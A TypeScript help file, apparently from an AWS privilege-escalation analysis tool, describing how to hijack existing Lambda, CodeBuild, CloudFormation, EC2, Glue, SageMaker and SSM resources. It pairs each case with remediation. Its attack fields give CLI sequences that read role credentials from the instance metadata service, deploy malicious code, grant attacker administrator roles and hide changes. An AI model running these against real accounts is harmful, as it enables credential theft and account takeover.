/**
 * Help for the AWS techniques that hijack an existing resource (existing-resources.ts): change what
 * a function, instance, stack, job or notebook runs, and act as the role it already runs as.
 */
import type { Help } from '../../../explain/help';
import { GUIDE, pf, SAR } from './help-refs';

export const EXISTING_HELP: Record<string, Help> = {
  'apprunner-002': {
    title: 'Redeploy an existing App Runner service',
    meaning: 'The source can change the image or start command of an existing App Runner service, which keeps running as its instance role (the target); no iam:PassRole is needed since the role does not change.',
    attack:
      '`aws apprunner list-services`, `aws apprunner describe-service --service-arn ARN` to see its InstanceRoleArn, then `aws apprunner update-service --service-arn ARN --source-configuration file://src.json` pointing at an image whose start command acts with the role.',
    remediation:
      'Grant apprunner:UpdateService per service ARN to its own deployment pipeline only; keep instance roles least-privilege; alert on UpdateService that changes the image repository.',
    references: [pf('apprunner-002'), SAR.apprunner],
  },
  'bedrock-002': {
    title: 'Run code in an existing Bedrock AgentCore code interpreter',
    meaning: 'The source can open a session on an existing code interpreter and run code in it: the code executes with the interpreter\'s execution role (the target).',
    attack:
      '`aws bedrock-agentcore-control list-code-interpreters` and `get-code-interpreter` to find one with a strong role, then StartCodeInterpreterSession and InvokeCodeInterpreter (executeCode) with Python that uses boto3 as the role.',
    remediation:
      'Grant bedrock-agentcore:StartCodeInterpreterSession and InvokeCodeInterpreter only on the interpreters an application uses (resource ARNs, not `*`); give interpreter roles nothing beyond what the agent needs.',
    references: [pf('bedrock-002'), SAR.bedrockAgentcore],
  },
  'cloudformation-002': {
    title: 'Update an existing stack that has a service role',
    meaning: 'The source can update a stack whose service role is the target: CloudFormation applies the new template with that role, so any resource the role can create is the source\'s to define.',
    attack:
      '`aws cloudformation describe-stacks --stack-name STACK --query Stacks[0].RoleARN`, `aws cloudformation get-template --stack-name STACK > t.json`, add an IAM role trusting the attacker with AdministratorAccess, then `aws cloudformation update-stack --stack-name STACK --template-body file://t.json --capabilities CAPABILITY_NAMED_IAM` and assume the new role.',
    remediation:
      'Grant cloudformation:UpdateStack only on the stacks a pipeline owns; scope the stack\'s service role to the resource types the stack manages (no iam:CreateRole unless it deploys roles); alert on UpdateStack by principals other than the pipeline.',
    references: [pf('cloudformation-002'), SAR.cloudformation],
  },
  'cloudformation-004': {
    title: 'Update an existing StackSet',
    meaning: 'The source can update an existing self-managed StackSet (passing its administration role): the execution role in every account with a stack instance applies the new template.',
    attack:
      '`aws cloudformation describe-stack-set --stack-set-name SET` for its roles and template, add an administrator role trusting the attacker, then `aws cloudformation update-stack-set --stack-set-name SET --template-body file://t.yaml --administration-role-arn ADMIN_ROLE_ARN --execution-role-name EXECUTION_ROLE --capabilities CAPABILITY_NAMED_IAM`; every instance account receives it.',
    remediation:
      'Restrict cloudformation:UpdateStackSet and iam:PassRole on the administration role to the platform team; keep the execution role\'s permissions to what the baseline deploys; review StackSet template changes like code.',
    references: [pf('cloudformation-004'), SAR.cloudformation, GUIDE.passRole],
  },
  'cloudformation-005': {
    title: 'Create and execute a change set on an existing stack',
    meaning: 'The source can create a change set for a stack with a service role and execute it: same result as an update, in two calls, run with the stack\'s role (the target).',
    attack:
      '`aws cloudformation create-change-set --stack-name STACK --change-set-name cs1 --template-body file://t.json --capabilities CAPABILITY_NAMED_IAM --change-set-type UPDATE`, then `aws cloudformation execute-change-set --stack-name STACK --change-set-name cs1` and `aws cloudformation wait stack-update-complete --stack-name STACK`.',
    remediation:
      'Split the duties: let developers create change sets but only an approval role execute them (cloudformation:ExecuteChangeSet); scope both to the stacks each team owns; keep service roles narrow.',
    references: [pf('cloudformation-005'), SAR.cloudformation],
  },
  'codebuild-002': {
    title: 'Start a build of an existing CodeBuild project with a new buildspec',
    meaning: 'The source can start a build of an existing project and override its buildspec: the commands it supplies run with the project\'s service role (the target).',
    attack:
      '`aws codebuild batch-get-projects --names PROJECT` to see its serviceRole, then `aws codebuild start-build --project-name PROJECT --buildspec-override file://bs.yml`, where bs.yml runs AWS CLI commands as the role; read the output with `aws codebuild batch-get-builds --ids BUILD_ID` and the build logs.',
    remediation:
      'Treat codebuild:StartBuild on a project as the power of its service role: grant it only to that project\'s pipeline, per project ARN; keep service roles to what the build needs; alert on builds started with a buildspec override.',
    references: [pf('codebuild-002'), SAR.codebuild],
  },
  'codebuild-003': {
    title: 'Start a batch build of an existing CodeBuild project',
    meaning: 'The source can start a batch build of a project configured for batches, overriding the buildspec: each build of the batch runs the source\'s commands with the project\'s role.',
    attack:
      'Write a buildspec with a `batch: build-list:` entry whose own buildspec carries the commands, then `aws codebuild start-build-batch --project-name PROJECT --buildspec-override file://batch.yml` and follow it with `aws codebuild batch-get-build-batches --ids BATCH_ID`.',
    remediation:
      'Grant codebuild:StartBuildBatch per project to its pipeline only, like StartBuild; disable batch builds on projects that do not use them.',
    references: [pf('codebuild-003'), SAR.codebuild],
  },
  'ec2-002': {
    title: 'Replace the user data of an existing instance and reboot it',
    meaning: 'The source can stop an instance, replace its user data and start it: the new boot script runs with the instance profile\'s role (the target).',
    attack:
      '`aws ec2 stop-instances --instance-ids i-ID`, `aws ec2 modify-instance-attribute --instance-id i-ID --attribute userData --value file://ud.txt` (a multipart cloud-init document set to run scripts on every boot), then `aws ec2 start-instances --instance-ids i-ID`.',
    remediation:
      'Restrict ec2:ModifyInstanceAttribute to provisioning roles, per instance or by resource tag; keep instance roles least-privilege; alert on userData modifications.',
    references: [pf('ec2-002'), SAR.ec2, GUIDE.ec2Roles],
  },
  'ec2-004': {
    title: 'Publish a new default version of a launch template',
    meaning: 'The source can add a version to an existing launch template, keeping its instance profile but changing its user data, and make it the default: the next instance launched from it runs the source\'s script as the template\'s role.',
    attack:
      '`aws ec2 describe-launch-template-versions --launch-template-id lt-ID --versions \'$Default\'`, `aws ec2 create-launch-template-version --launch-template-id lt-ID --source-version 1 --launch-template-data file://ud.json`, `aws ec2 modify-launch-template --launch-template-id lt-ID --default-version NEW`, then wait for (or trigger) a scale-out of the Auto Scaling group using it.',
    remediation:
      'Grant ec2:CreateLaunchTemplateVersion and ec2:ModifyLaunchTemplate only to the pipeline owning each template (resource ARN or tag conditions); pin Auto Scaling groups to a specific template version rather than $Default.',
    references: [pf('ec2-004'), SAR.ec2],
  },
  'ec2instanceconnect-003': {
    title: 'Push an SSH key to a running instance (EC2 Instance Connect)',
    meaning: 'Through EC2 Instance Connect the source can register a short-lived SSH key on an instance and log in: on the instance it reads the instance profile role\'s credentials (the target). It also needs network reach to the SSH port.',
    attack:
      '`ssh-keygen -t ed25519 -f k -N ""`, `aws ec2-instance-connect send-ssh-public-key --instance-id i-ID --instance-os-user ec2-user --ssh-public-key file://k.pub`, connect within 60 seconds with `ssh -i k ec2-user@HOST`, then fetch an IMDSv2 token and `curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ROLE`.',
    remediation:
      'Scope ec2-instance-connect:SendSSHPublicKey to specific instances or tags and to an OS user (condition ec2:osuser); close port 22 to the internet; prefer Session Manager with logging.',
    references: [pf('ec2instanceconnect-003'), SAR.ec2InstanceConnect, GUIDE.ec2Roles],
  },
  'glue-002': {
    title: 'Add an SSH key to an existing Glue development endpoint',
    meaning: 'The source can add its SSH public key to an existing dev endpoint and log in: the endpoint runs as its Glue role (the target).',
    attack: '`aws glue get-dev-endpoints` to find one, `aws glue update-dev-endpoint --endpoint-name EP --add-public-keys "$(cat k.pub)"`, then `ssh -i k glue@ENDPOINT_ADDRESS` and use the role from there.',
    remediation: 'Restrict glue:UpdateDevEndpoint to the endpoint\'s owner; delete dev endpoints nobody uses (they bill by the hour and are superseded by interactive sessions); keep their roles narrow.',
    references: [pf('glue-002'), SAR.glue],
  },
  'glue-005': {
    title: 'Repoint an existing Glue job at a chosen role and script, then run it',
    meaning: 'The source can update an existing Glue job to use the target role (a role trusting glue.amazonaws.com, passed with iam:PassRole) and its own script, then start a run.',
    attack:
      '`aws glue get-job --job-name JOB` to record the current settings, `aws glue update-job --job-name JOB --job-update "Role=ROLE_ARN,Command={Name=pythonshell,ScriptLocation=s3://BUCKET/x.py,PythonVersion=3.9}"`, `aws glue start-job-run --job-name JOB`, then restore the original settings to hide the change.',
    remediation:
      'Restrict glue:UpdateJob to the job\'s deployment role; scope iam:PassRole on Glue roles to the role each job uses; alert on UpdateJob changing Role or ScriptLocation.',
    references: [pf('glue-005'), SAR.glue, GUIDE.passRole],
  },
  'glue-006': {
    title: 'Repoint an existing Glue job and schedule it with a trigger',
    meaning: 'Like glue-005, but the run is started by a trigger the source creates instead of glue:StartJobRun.',
    attack:
      'Update the job with `Role=ROLE_ARN` and a new ScriptLocation, then `aws glue create-trigger --name nightly-fix --type SCHEDULED --schedule "cron(0/5 * * * ? *)" --start-on-creation --actions JobName=JOB`; the trigger outlives the attacker\'s session.',
    remediation:
      'Review glue:CreateTrigger together with glue:UpdateJob; scope iam:PassRole on Glue roles; periodically diff job definitions and triggers against what the pipeline deployed.',
    references: [pf('glue-006'), SAR.glue, GUIDE.passRole],
  },
  'lambda-003': {
    title: 'Replace the code of an existing Lambda function and wait',
    meaning: 'The source can replace a function\'s code; the next invocation by its trigger (schedule, queue, API) runs the new code with the function\'s execution role (the target).',
    attack:
      '`aws lambda get-function --function-name FN` to save the original package, `aws lambda update-function-code --function-name FN --zip-file fileb://evil.zip`, then wait for the next scheduled or event-driven invocation; wrap the original handler so nothing visibly breaks.',
    remediation:
      'Grant lambda:UpdateFunctionCode per function ARN to its deployment pipeline; enforce code signing (a code signing configuration with an UntrustedArtifactOnDeployment policy of Enforce); keep execution roles narrow.',
    references: [pf('lambda-003'), SAR.lambda],
  },
  'lambda-004': {
    title: 'Replace the code of an existing Lambda function and invoke it',
    meaning: 'The source can replace a function\'s code and invoke it at once: the code runs with the function\'s execution role (the target).',
    attack: '`aws lambda update-function-code --function-name FN --zip-file fileb://evil.zip`, `aws lambda wait function-updated --function-name FN`, then `aws lambda invoke --function-name FN out.json` and read the role\'s credentials or results from out.json.',
    remediation: 'Keep lambda:UpdateFunctionCode and lambda:InvokeFunction on powerful functions in different hands; enforce code signing; alert on UpdateFunctionCode outside deployments.',
    references: [pf('lambda-004'), SAR.lambda],
  },
  'lambda-005': {
    title: 'Replace the code of an existing Lambda function and grant oneself invoke',
    meaning: 'The source can replace a function\'s code and add itself to the function\'s resource policy, then invoke it: the code runs as the function\'s execution role.',
    attack:
      '`aws lambda update-function-code --function-name FN --zip-file fileb://evil.zip`, `aws lambda add-permission --function-name FN --statement-id dbg --action lambda:InvokeFunction --principal arn:aws:iam::ACCOUNT:role/ME`, then `aws lambda invoke --function-name FN out.json`.',
    remediation: 'Restrict lambda:AddPermission as a permissions-management action to the deployment pipeline; grant lambda:UpdateFunctionCode per function; review function resource policies for statements naming individual users or roles.',
    references: [pf('lambda-005'), SAR.lambda],
  },
  'sagemaker-004': {
    title: 'Open an existing SageMaker notebook through a presigned URL',
    meaning: 'The source can create a presigned URL for an existing notebook instance and open its Jupyter interface: the terminal runs with the notebook\'s execution role (the target).',
    attack:
      '`aws sagemaker list-notebook-instances`, `aws sagemaker create-presigned-notebook-instance-url --notebook-instance-name NB`, open the URL in a browser, start a terminal and run `aws sts get-caller-identity` to confirm the role, then any command it allows.',
    remediation:
      'Grant sagemaker:CreatePresignedNotebookInstanceUrl per notebook to its owner (resource ARN or an owner tag condition), optionally with aws:SourceIp; give each user their own notebook and execution role.',
    references: [pf('sagemaker-004'), SAR.sagemaker],
  },
  'sagemaker-005': {
    title: 'Attach a lifecycle script to an existing SageMaker notebook',
    meaning: 'The source can create a lifecycle configuration, attach it to a stopped notebook instance and start it: the on-start script runs with the notebook\'s execution role.',
    attack:
      '`aws sagemaker create-notebook-instance-lifecycle-config --notebook-instance-lifecycle-config-name lc --on-start Content=$(base64 -w0 on-start.sh)`, `aws sagemaker stop-notebook-instance --notebook-instance-name NB`, `aws sagemaker update-notebook-instance --notebook-instance-name NB --lifecycle-config-name lc`, then `aws sagemaker start-notebook-instance --notebook-instance-name NB`.',
    remediation:
      'Restrict sagemaker:UpdateNotebookInstance and CreateNotebookInstanceLifecycleConfig to platform administrators; review lifecycle configurations; scope stop and start to each notebook\'s owner.',
    references: [pf('sagemaker-005'), SAR.sagemaker],
  },
  'ssm-001': {
    title: 'Open a Session Manager shell on an instance',
    meaning: 'The source can open an interactive shell on a managed instance: from there it reads the instance profile role\'s credentials (the target).',
    attack:
      '`aws ssm start-session --target i-ID`, then inside: `TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H "X-aws-ec2-metadata-token-ttl-seconds: 300")` and `curl -s -H "X-aws-ec2-metadata-token: $TOKEN" http://169.254.169.254/latest/meta-data/iam/security-credentials/`.',
    remediation:
      'Scope ssm:StartSession to specific instances or tags (condition ssm:resourceTag/...), and to the session document that logs to S3 or CloudWatch; keep instance roles narrow so a shell on the host is not an account takeover.',
    references: [pf('ssm-001'), SAR.ssm, GUIDE.ec2Roles],
  },
  'ssm-002': {
    title: 'Run a command on an instance with Run Command',
    meaning: 'The source can send a shell command to a managed instance without an interactive session: the command runs as root and can use or export the instance role\'s credentials (the target).',
    attack:
      '`aws ssm send-command --instance-ids i-ID --document-name AWS-RunShellScript --parameters \'commands=["aws sts get-caller-identity","aws iam list-roles"]\'`, then `aws ssm get-command-invocation --command-id CMD_ID --instance-id i-ID` for the output.',
    remediation:
      'Scope ssm:SendCommand to both the target instances (tags) and the documents allowed (e.g. only custom documents, not AWS-RunShellScript); log command output; keep instance roles narrow.',
    references: [pf('ssm-002'), SAR.ssm, GUIDE.ec2Roles],
  },
};
